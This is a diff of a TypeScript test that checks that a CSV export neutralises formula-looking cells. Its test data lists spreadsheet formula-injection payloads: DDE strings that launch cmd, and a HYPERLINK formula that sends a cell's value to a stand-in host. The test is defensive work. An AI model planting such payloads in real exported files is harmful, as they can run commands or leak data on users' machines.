@@ -11,20 +11,32 @@ import { exits, startHarness, type Harness } from '../cli/harness.ts';
 
 const T = { timeout: 180_000 };
 
-const FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://x.invalid/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describeEachDialect('CSV export neutralises formulas', (dialect) => {
   let h: Harness;
   before(async () => (h = await startHarness(dialect)));
   after(() => h?.close());
 
-  it('prefixes formula-looking cells with \' and leaves numbers alone', T, async () => {
+  it("prefixes formula-looking cells with ' and leaves numbers alone", T, async () => {
     const ds = await h.datastore('sheet');
     const items = FORMULAS.map((f, i) => ({ title: f, fields: { vendor: f, amount: -i - 0.5 } }));
     await h.api('POST', `/api/v1/workspaces/${h.workspace}/datastores/${ds}/items`, { items });
     const out = exits(await h.cli(['items', 'export', ds, '--format', 'csv']), 0).stdout;
     const rows: string[][] = [];
-    for await (const row of csvRows((async function* () { yield out; })())) rows.push(row);
+    for await (const row of csvRows(
+      (async function* () {
+        yield out;
+      })(),
+    ))
+      rows.push(row);
     const [header, ...data] = rows;
     const at = (name: string) => header!.indexOf(name);
     assert.equal(data.length, FORMULAS.length);
